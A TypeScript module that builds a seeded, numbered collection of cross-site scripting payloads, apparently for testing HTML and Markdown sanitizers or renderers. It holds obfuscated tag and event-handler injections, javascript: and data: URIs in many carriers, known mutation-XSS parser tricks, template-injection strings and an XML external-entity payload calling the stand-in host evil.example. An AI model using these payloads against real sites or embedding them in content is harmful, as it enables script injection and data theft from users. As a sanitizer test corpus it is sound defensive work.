import { randomFrom } from "./random.ts";

/** A text that would run a script or ask a foreign server, if it were taken for what it looks like; told apart by its number. */
export type Payload = { number: number; text: string };

/** Where payloads send what they find; nobody answers there. */
export const FOREIGN = "evil.example";

const SCRIPT = "(top.wasHit||alert)(NUMBER)";

const TAGS = [
  "img src=x",
  "svg",
  "svg><animate attributeName=x dur=1s",
  "svg><set attributeName=x",
  "body",
  "input autofocus",
  "select autofocus",
  "textarea autofocus",
  "button autofocus",
  "details open",
  "video src=x",
  "video><source src=x",
  "audio src=x",
  "iframe src=about:blank",
  "object data=x",
  "embed src=x",
  "marquee",
  "math",
  "style",
  "link rel=stylesheet href=x",
  "form",
  "div contenteditable autofocus",
  "p tabindex=1 autofocus style='animation: x 1s'",
  "x-any",
  "table",
] as const;

const HANDLERS = [
  "onerror",
  "onload",
  "onfocus",
  "ontoggle",
  "onmouseover",
  "onanimationstart",
  "onbegin",
  "onpointerenter",
  "onstart",
  "oncanplay",
] as const;

/** How a tag is written so that a reader that looks for the usual writing overlooks it, and out of what it breaks. */
const WRITINGS: ((tag: string, handler: string) => string)[] = [
  (tag, handler) => `<${tag} ${handler}="${SCRIPT}">`,
  (tag, handler) => `<${tag.toUpperCase()} ${handler.toUpperCase()}=${SCRIPT}>`,
  (tag, handler) => `<${tag}/${handler}=${SCRIPT}//`,
  (tag, handler) => `<${tag}\n${handler}\n=\n'${SCRIPT}'>`,
  (tag, handler) => `"><${tag} ${handler}=${SCRIPT}>`,
  (tag, handler) => `--><${tag} ${handler}=${SCRIPT}>`,
  (tag, handler) => `</title></textarea></style></script><${tag} ${handler}=${SCRIPT}>`,
  (tag, handler) => `]]><${tag} ${handler}=${SCRIPT}>`,
  (tag, handler) => `<<${tag} ${handler}=\`${SCRIPT}\`>>`,
  (tag, handler) => `&lt;${tag} ${handler}=${SCRIPT}&gt;`,
  (tag, handler) => `<${tag} x="\`" ${handler}=&#40;top.wasHit||alert&#41;&#40;NUMBER&#41;>`,
  (tag, handler) => `' ${handler}=${SCRIPT} autofocus x='<${tag}`,
];

const ADDRESSES = [
  `javascript:${SCRIPT}`,
  `JaVaScRiPt:${SCRIPT}`,
  `java\tscript:${SCRIPT}`,
  `java&#x0A;script:${SCRIPT}`,
  `&#106;avascript:${SCRIPT}`,
  `javascript&colon;${SCRIPT}`,
  ` \u0001javascript:${SCRIPT}`,
  `javascript://%0a${SCRIPT}`,
  `data:text/html,<script>${SCRIPT}</script>`,
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${SCRIPT}'/>`,
  `vbscript:${SCRIPT}`,
  `https://${FOREIGN}/NUMBER`,
  `//${FOREIGN}/NUMBER`,
  `\\\\${FOREIGN}\\NUMBER`,
  `/\\${FOREIGN}/NUMBER`,
];

const CARRIERS: ((address: string) => string)[] = [
  (to) => `<a href="${to}">press</a>`,
  (to) => `<img src="${to}">`,
  (to) => `<img srcset="${to} 1x, ${to} 2x">`,
  (to) => `<iframe src="${to}"></iframe>`,
  (to) => `<iframe srcdoc="<script>${SCRIPT}</script><img src='${to}'>"></iframe>`,
  (to) => `<object data="${to}"></object>`,
  (to) => `<embed src="${to}">`,
  (to) => `<form action="${to}"><button>press</button></form>`,
  (to) => `<form id=f></form><button form=f formaction="${to}">press</button>`,
  (to) => `<svg><a xlink:href="${to}"><text>press</text></a><use href="${to}#x"/><image href="${to}"/></svg>`,
  (to) => `<math href="${to}"><mtext>press</mtext></math>`,
  (to) => `<base href="${to}"><img src=x>`,
  (to) => `<meta http-equiv=refresh content="0; url=${to}">`,
  (to) =>
    `<link rel=stylesheet href="${to}"><link rel=prefetch href="${to}"><link rel=preconnect href="${to}">`,
  (to) => `<style>@import "${to}"; * { background: url("${to}") }</style>`,
  (to) => `<div style="background: url('${to}')">styled</div>`,
  (to) => `<video poster="${to}"><source src="${to}"><track src="${to}"></video>`,
  (to) => `<input type=image src="${to}">`,
  (to) => `<table background="${to}"><tr><td background="${to}">cell</td></tr></table>`,
  (to) => `[press](${to})`,
  (to) => `[press](<${to}>)`,
  (to) => `![picture](${to})`,
  (to) => `<${to}>`,
  (to) => `[press][there]\n\n[there]: ${to}`,
  (to) => `[[${to}|press]] and ![[${to}]]`,
  (to) => `\`\`\`mermaid\ngraph TD; A["<img src='${to}' onerror='${SCRIPT}'>"]; click A "${to}"\n\`\`\``,
  (to) => `$$\\href{${to}}{x} \\includegraphics{${to}} \\htmlStyle{background:url(${to})}{y}$$`,
  (to) => `<script src="${to}"></script>`,
];

/** Written by people who found a hole with them: parsers that read the same text twice differently. */
const FOUND = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${SCRIPT}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${SCRIPT}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${SCRIPT}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${SCRIPT}>`,
  `<svg><style><img src=x onerror=${SCRIPT}></style></svg>`,
  `<template><script>${SCRIPT}</script></template>`,
  `<select><noembed></select><script>${SCRIPT}</script>`,
  `{{constructor.constructor('${SCRIPT}')()}}`,
  `\${${SCRIPT}}`,
  `<img src="x\` \`<script>${SCRIPT}</script>"\` \`>`,
  `<a href="\\u006aavascript:${SCRIPT}">press</a>`,
  `<svg><foreignObject><iframe srcdoc="<script>${SCRIPT}</script>"></iframe></foreignObject></svg>`,
  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "https://${FOREIGN}/NUMBER">]><x>&y;</x>`,
  `<span data-comment="x"><img data-block-id="y" src=x onerror=${SCRIPT}></span>`,
  `<pre><code class="language-js"><img src=x onerror=${SCRIPT}></code></pre>`,
  `<details ontoggle=${SCRIPT} open><summary>x</summary></details>`,
];

/** All there are, in an order that a seed decides. */
export function xssPayloads(seed: number): Payload[] {
  const texts = [
    ...TAGS.flatMap((tag) => HANDLERS.flatMap((handler) => WRITINGS.map((write) => write(tag, handler)))),
    ...ADDRESSES.flatMap((address) => CARRIERS.map((carry) => carry(address))),
    ...FOUND,
  ];
  const random = randomFrom(seed);
  for (let last = texts.length - 1; last > 0; last--) {
    const other = Math.floor(random() * (last + 1));
    [texts[last], texts[other]] = [texts[other]!, texts[last]!];
  }
  return texts.map((text, number) => ({ number, text: text.replaceAll("NUMBER", String(number)) }));
}
